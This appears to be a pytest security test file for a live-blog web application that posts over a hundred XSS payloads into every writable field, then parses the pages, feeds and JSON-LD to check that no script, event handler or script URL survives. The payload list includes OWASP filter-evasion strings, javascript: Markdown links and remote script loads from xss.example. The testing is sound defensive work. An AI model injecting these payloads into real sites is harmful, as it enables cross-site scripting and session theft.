"""Hostile text through every field a writer can fill, read back from everywhere it is shown.

The payloads are the OWASP filter-evasion families, Markdown link and image tricks, and
attribute, `</script>` and CDATA breakouts. Each goes into every writable field of a post
(and a blog's title and byline); then the page, the embed, the stream's HTML fragments, the
three feeds and the JSON-LD are parsed as a browser or feed reader would, and none may hold
a script, an event handler, a script URL or an active element that Liveline did not put there.
"""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from liveline.app import create_app
from liveline.config import Settings
from liveline.model import Role
from tests.harness import auth
from tests.record import record

PAYLOADS = [
    # OWASP XSS filter evasion
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65"
    "&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import'https://xss.example/xss.css';</style>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<details open ontoggle="alert(1)">',
    '<video><source onerror="alert(1)">',
    "<base href=\"javascript:alert('XSS');//\">",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # Markdown link and image tricks
    "[click](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java%0ascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    '[a](#"onmouseover="alert(1))',
    '![a"onerror="alert(1)](x)',
    "[x](&#106;avascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '<https://a.example/"onmouseover="alert(1)>',
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "![<script>alert(1)</script>](https://a.example/x.png)",
    '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
    # Attribute, script and CDATA breakouts
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><script>alert(1)</script>",
    "<!--<script>-->alert(1)",
    "]]><script>alert(1)</script><![CDATA[",
    "\u2028\u2029</script><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "' onload='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,&lt;svg id=x onload=alert(1)&gt;#x"/></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    # Script URLs in every casing, with spaces, tabs and newlines inside and around them
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \tjavascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x0D;script:alert(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="javascript:alert(1) 1x">',
    "[x](VBSCRIPT:msgbox(1))",
    "[x](Data:text/html,<script>alert(1)</script>)",
    "[x](\tjavascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javas&#99;ript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[x](jAvAsCrIpT:alert(1) "t")',
    # Entity and encoding tricks, and markup that only becomes markup once cleaned
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<a href="&#0000106avascript:alert(1)">x</a>',
    "<isindex type=image src=1 onerror=alert(1)>",
]
assert len(PAYLOADS) >= 100
# With a control character (tab and newlines aside) a text is refused at the edge, whole.
REFUSED_PAYLOADS = [
    '<a href="java\x00script:alert(1)">x</a>',
    "<IMG SRC=\"\x01javascript:alert('XSS');\">",
    "[x](\x0bjavascript:alert(1))",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]

ACTIVE_TAGS = {
    "iframe", "object", "embed", "svg", "math", "style", "base", "form", "input", "button",
    "textarea", "select", "frame", "frameset", "applet", "video", "audio", "source", "details",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background", "poster", "srcset"}
OUR_LINKS = ("stylesheet", "alternate", "icon", "canonical")
SCRIPT_URL = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)


class Inspector(HTMLParser):
    """Collects what a browser would run or load from a piece of HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.active: Counter[str] = Counter()
        self.scripts: list[dict[str, str | None]] = []
        self.jsonld: list[str] = []
        self._in_jsonld = False
        self.words = False  # one block of the page script's words; a second is no page's own
        # Each post's own share button: one an article at most, checked in `inspect`.
        self.articles = 0
        self.share_buttons = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        if tag == "script":
            self.scripts.append(named)
            if named.get("type") == "application/ld+json":
                self._in_jsonld = True
                self.jsonld.append("")
            elif named == {"type": "application/json", "id": "page-words"} and not self.words:
                self.words = True  # the page script's words (web/words.py): data, run by none
            elif not (named.get("src") or "").startswith("/static/"):
                self.problems.append(f"a script not ours: {attrs}")
        self.articles += tag == "article"
        if tag == "button" and named.get("class") == "post__share":
            self.share_buttons += 1
        elif tag in ACTIVE_TAGS:
            self.active[tag] += 1
        if tag == "meta" and (named.get("http-equiv") or "").lower() == "refresh":
            self.problems.append("a meta refresh")
        if tag == "link" and (named.get("rel") or "") not in OUR_LINKS:
            self.problems.append(f"a link {attrs}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"an event handler {name}={value!r} on <{tag}>")
            if name == "style":
                self.problems.append(f"an inline style on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                cleaned = re.sub(r"[\x00-\x20]", "", value)
                if SCRIPT_URL.match(cleaned):
                    self.problems.append(f"a script URL {name}={value!r} on <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_jsonld = False

    def handle_data(self, data: str) -> None:
        if self._in_jsonld:
            self.jsonld[-1] += data


def inspect(html: str, where: str, ours: Counter[str] | None = None) -> Inspector:
    """`ours`: the active elements Liveline's own page has (its sort form, its buttons)."""
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    extra = inspector.active - (ours or Counter())
    assert inspector.share_buttons <= inspector.articles, f"{where}: share buttons not ours"
    assert not inspector.problems and not extra, f"{where}: {inspector.problems[:5]} {extra}"
    for block in inspector.jsonld:
        json.loads(block)  # still one JSON document: nothing broke out of it
    return inspector


def fields_with(payload: str) -> dict[str, object]:
    return {
        "headline": payload[:500],
        "body": f"Before.\n\n{payload}\n\nAfter.",
        "authors": [payload[:200]],
        "location": payload[:200],
        "contributors": [payload[:200]],
        "label": payload[:40],
        "images": [
            {
                "url": "https://img.example/a.jpg",
                "caption": payload,
                "credit": payload[:300],
                "alt": payload,
            }
        ],
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[TestClient, list[str]]:
    where: Path = tmp_path_factory.mktemp("xss")
    settings = Settings(database_url=f"sqlite:///{where / 'xss.db'}", page_size=200)
    client = TestClient(create_app(settings))
    client.__enter__()
    service = client.app.state.service  # type: ignore[attr-defined]
    service.accounts.add_user("ed", Role.EDITOR)
    headers = auth(service.accounts.create_token("ed"))
    made = client.post("/api/blogs", json={"slug": "clean", "title": "Clean"}, headers=headers)
    assert made.status_code == 201
    clean = {"headline": "Calm", "body": "[A link](https://a.example).", "authors": ["Ana"]}
    assert client.post("/api/blogs/clean/posts", json=clean, headers=headers).status_code == 201
    slugs = []
    # Feeds carry the latest 50 posts: 40 a blog, so every payload reaches every feed.
    for start in range(0, len(PAYLOADS), 40):
        chunk = PAYLOADS[start : start + 40]
        slug = f"hostile-{start}"
        made = client.post(
            "/api/blogs",
            json={
                "slug": slug,
                "title": chunk[0][:300],
                "authors": [chunk[1][:200]],
                "organization": chunk[2][:200],
            },
            headers=headers,
        )
        assert made.status_code == 201, made.text
        for payload in chunk:
            answer = client.post(f"/api/blogs/{slug}/posts", json=fields_with(payload),
                                 headers=headers)  # fmt: skip
            assert answer.status_code == 201, (payload, answer.text)
        slugs.append(slug)
    return client, slugs


@pytest.mark.parametrize("page", ["", "/embed"])
def test_no_payload_runs_on_the_page_or_the_embed(
    hostile: tuple[TestClient, list[str]], page: str
) -> None:
    client, slugs = hostile
    baseline = Inspector()
    baseline.feed(client.get(f"/blogs/clean{page}").text)
    ours = baseline.active
    for slug in slugs:
        html = client.get(f"/blogs/{slug}{page}").text
        inspector = inspect(html, f"/blogs/{slug}{page}", ours)
        if not page:
            assert len(inspector.jsonld) == 1  # the LiveBlogPosting, whole
    record(
        f"{len(PAYLOADS)} XSS payloads in every writable field, read on the {page or 'page'}",
        tried=f"{len(PAYLOADS)} payloads × 9 post fields and 3 blog fields",
        lost="nothing ran: no script, handler, script URL or active element",
        test="tests/test_xss.py",
    )


def test_no_payload_runs_in_the_streams_fragments(hostile: tuple[TestClient, list[str]]) -> None:
    client, slugs = hostile
    seen = 0
    for slug in slugs:
        events = client.get(f"/api/blogs/{slug}/events", params={"since": 0}).json()["events"]
        for event in events:
            inspect(event["html"], f"{slug} seq {event['seq']}")
            seen += 1
    assert seen == len(PAYLOADS)


@pytest.mark.parametrize("feed", ["feed.atom", "feed.rss"])
def test_no_payload_runs_in_the_xml_feeds(hostile: tuple[TestClient, list[str]], feed: str) -> None:
    client, slugs = hostile
    for slug in slugs:
        root = ET.fromstring(client.get(f"/blogs/{slug}/{feed}").content)  # well-formed XML
        html_parts = [
            element.text or ""
            for element in root.iter()
            if element.tag.rsplit("}", 1)[-1] in ("content", "summary", "description")
        ]
        assert html_parts
        for part in html_parts:
            inspect(part, f"{slug}/{feed}")


def test_no_payload_runs_in_the_json_feed(hostile: tuple[TestClient, list[str]]) -> None:
    client, slugs = hostile
    for slug in slugs:
        feed = client.get(f"/blogs/{slug}/feed.json").json()
        for item in feed["items"]:
            inspect(item.get("content_html", ""), f"{slug}/feed.json item {item['id']}")


def test_a_script_url_for_an_image_is_refused(hostile: tuple[TestClient, list[str]]) -> None:
    client, slugs = hostile
    service = client.app.state.service  # type: ignore[attr-defined]
    headers = auth(service.accounts.create_token("ed"))
    for url in ("javascript:alert(1)", "data:image/svg+xml,<svg onload=alert(1)>", " /x"):
        body = {"headline": "x", "body": "", "images": [{"url": url}]}
        answer = client.post(f"/api/blogs/{slugs[0]}/posts", json=body, headers=headers)
        assert answer.status_code == 422, url


@pytest.mark.parametrize(
    "unsafe",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<a href=" java\tscript:alert(1)">x</a>',
        "<iframe src=https://a.example></iframe>",
        '<p style="color:red">x</p>',
        '<script type="application/ld+json">{"a": 1}</script><script>alert(1)</script>',
        '<script type="application/ld+json">{"a": "</script>"}</script>',
    ],
)
def test_the_inspector_catches_what_it_looks_for(unsafe: str) -> None:
    with pytest.raises((AssertionError, json.JSONDecodeError)):
        inspect(unsafe, "a known-bad snippet")


@pytest.mark.parametrize("field", ["headline", "body", "authors", "location", "contributors",
                                   "caption", "credit", "alt"])  # fmt: skip
def test_a_control_character_in_any_field_is_refused_whole(
    hostile: tuple[TestClient, list[str]], field: str
) -> None:
    client, slugs = hostile
    service = client.app.state.service  # type: ignore[attr-defined]
    headers = auth(service.accounts.create_token("ed"))
    before = client.get(f"/api/blogs/{slugs[0]}/events").json()["head_seq"]
    for payload in REFUSED_PAYLOADS:
        body: dict[str, object] = {"headline": "x", "body": "y"}
        if field in ("caption", "credit", "alt"):
            body["images"] = [{"url": "https://img.example/a.jpg", field: payload}]
        else:
            body[field] = [payload] if field in ("authors", "contributors") else payload
        answer = client.post(f"/api/blogs/{slugs[0]}/posts", json=body, headers=headers)
        assert answer.status_code == 422, (field, payload, answer.text)
    assert client.get(f"/api/blogs/{slugs[0]}/events").json()["head_seq"] == before
